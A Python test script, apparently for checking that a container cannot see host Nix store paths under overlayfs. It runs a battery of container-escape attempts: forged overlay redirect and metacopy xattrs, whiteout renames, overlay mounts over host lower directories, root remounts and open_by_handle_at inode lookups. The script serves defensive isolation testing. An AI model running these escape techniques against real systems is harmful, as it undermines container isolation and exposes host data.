"""What somebody in a container does to see store paths of the host that are not its own. Runs in the container.

python3 escape_attempts.py look|try SECRET FORBIDDEN...

It prints "saw WHAT" for each finding, "did WHAT" for each attempt that the kernel let pass, and "done" at the end.
SECRET: the name that overlayfs's lower directories have for the store, which nobody in a container can know. FORBIDDEN:
names of files and directories that are in no layer of the container's image. Errors of the attempts are expected.
"""

import ctypes
import os
import stat
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
OPTIONS = ("redirect_dir=follow,index=off", "redirect_dir=on,metacopy=on", "redirect_dir=off", "nfs_export=on,index=on",
           "userxattr")
NOT_OF_THE_IMAGE = ("proc", "sys", "dev")
INSIDE = "/tmp/inside"  # where it mounts


class Attempts:
    """The attempts of one container. secret, forbidden: as for the program."""

    def __init__(self, secret, forbidden):
        self._secret = secret
        self._foreign = forbidden[0]
        self._forbidden = {secret, *forbidden}
        self._targets = [f"/{secret}/{self._foreign}", f"/{secret}", "/store", f"/store/{self._foreign}",
                         f"/nix/store/{self._foreign}", "/nix", "/var"]

    def look(self):
        """By names, by listing everything, and in what the kernel tells of mounts."""
        for path in (f"/{self._secret}", f"/{self._secret}/{self._foreign}", f"/nix/store/{self._foreign}",
                     f"/store/{self._foreign}", f"/nix/{self._secret}", f"/nix/store/{self._secret}",
                     "/store", "/nix/var"):
            if os.path.lexists(path) and not _made_here(path):
                print("saw", path)
        self._walk("/")
        for name in ("mountinfo", "mounts", "mountstats"):
            with open(f"/proc/self/{name}", encoding="utf-8") as file:
                text = file.read()
            for word in self._forbidden:
                if word in text:
                    print(f"saw {word} in {name}")

    def _walk(self, root):
        for folder, folders, files in os.walk(root):
            if folder == "/":
                folders[:] = [name for name in folders if name not in NOT_OF_THE_IMAGE]
            for name in self._forbidden.intersection(folders + files):
                if not _made_here(f"{folder}/{name}"):
                    print(f"saw {folder}/{name}")

    def attempt(self):
        """All of it, then a look."""
        self._replace_names()
        self._write_attributes()
        self._mount_over_own_files()
        self._remount_root()
        self._open_by_handle()
        self.look()

    def _write_attributes(self):
        own = [f"/nix/store/{name}" for name in os.listdir("/nix/store")[:3]]
        foreign = f"/nix/store/{self._foreign}"
        for directory in (f"/{self._secret}", "/store", "/made", foreign, "/nix", "/nix/store", *own):
            _try("mkdir", os.mkdir, directory)
            _try("mark", _write, f"{directory}/.made-here")
            for prefix in ("trusted", "user"):
                for target in self._targets:
                    _try("redirect", os.setxattr, directory, f"{prefix}.overlay.redirect", target.encode())
                for name, value in (("opaque", b"y"), ("metacopy", b""), ("origin", b"\0" * 24), ("impure", b"y")):
                    _try(name, os.setxattr, directory, f"{prefix}.overlay.{name}", value)

    def _replace_names(self):
        _try("whiteout", os.mknod, "/whiteout", stat.S_IFCHR, os.makedev(0, 0))
        for place in (f"/{self._secret}", f"/nix/store/{self._foreign}", "/store"):
            _try("rename", os.rename, "/whiteout", place)
            _try("mkdir", os.mkdir, "/moves")
            _try("rename", os.rename, "/moves", place)
        _try("link", os.symlink, f"/{self._secret}/{self._foreign}", "/link")
        if os.path.exists("/link") and not _made_here(os.path.realpath("/link")):
            print("saw", os.path.realpath("/link"))

    def _mount_over_own_files(self):
        """Overlays of its own, of its root and of the host's directories that /proc/self/mountinfo names."""
        os.makedirs(INSIDE, exist_ok=True)
        _try("tmpfs", _mount, "tmpfs", "/tmp", "tmpfs", 0, "")
        for directory in (INSIDE, "/tmp/low", "/tmp/up", "/tmp/work"):
            os.makedirs(directory, exist_ok=True)
        for number, target in enumerate(self._targets):
            os.makedirs(f"/tmp/low/x{number}", exist_ok=True)
            for prefix in ("trusted", "user"):
                _try("redirect", os.setxattr, f"/tmp/low/x{number}", f"{prefix}.overlay.redirect", target.encode())
        for lowers in ("/tmp/low:/", "/tmp/low:/nix", "/tmp/low:/nix/store", *_lowers_of_root()):
            for options in OPTIONS:
                for upper in ("", ",upperdir=/tmp/up,workdir=/tmp/work"):
                    if _try("overlay", _mount, "overlay", INSIDE, "overlay", 0, f"lowerdir={lowers}{upper},{options}"):
                        self._walk(INSIDE)
                        LIBC.umount2(INSIDE.encode(), 2)

    def _remount_root(self):
        for lowers in ("", *(f",lowerdir={text}" for text in _lowers_of_root())):
            _try("remount", _mount, "overlay", "/", None, MS_REMOUNT, f"redirect_dir=on{lowers}")
        if _try("bind", _mount, "/", INSIDE, None, MS_BIND, None):
            self._walk(INSIDE)
            LIBC.umount2(INSIDE.encode(), 2)

    def _open_by_handle(self):
        """By a number instead of a name: inode 2 is the root of ext4, 128 that of XFS."""
        root = os.open("/", os.O_RDONLY)
        for inode in (2, 128):
            handle = (ctypes.c_uint32 * 4)(8, 1, inode, 0)
            opened = LIBC.open_by_handle_at(root, handle, os.O_RDONLY | os.O_DIRECTORY)
            if opened >= 0:
                print(f"saw {os.listdir(opened)} by the handle of inode {inode}")


def _made_here(path):
    """Whether it is what this program has made, and holds nothing besides."""
    if os.path.isdir(path):
        return set(os.listdir(path)) <= {".made-here"}
    return os.path.islink(path) or stat.S_ISCHR(os.lstat(path).st_mode)


def _lowers_of_root():
    """What the kernel tells this container of its root's lower directories: one string, or none."""
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        options = next(line.split()[-1] for line in file if line.split()[4] == "/").split(",")
    return [option.removeprefix("lowerdir=") for option in options if option.startswith("lowerdir=")]


def _try(what, function, *arguments):
    try:
        function(*arguments)
    except OSError:
        return False
    print("did", what)
    return True


def _write(path):
    with open(path, "x", encoding="utf-8"):
        pass


def _mount(source, place, file_system, flags, options):
    words = [None if word is None else word.encode() for word in (source, place, file_system, options)]
    if LIBC.mount(words[0], words[1], words[2], ctypes.c_ulong(flags), words[3]) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def main():
    how, secret, *forbidden = sys.argv[1:]
    attempts = Attempts(secret, forbidden)
    attempts.look()
    if how == "try":
        attempts.attempt()
    print("done")


if __name__ == "__main__":
    main()
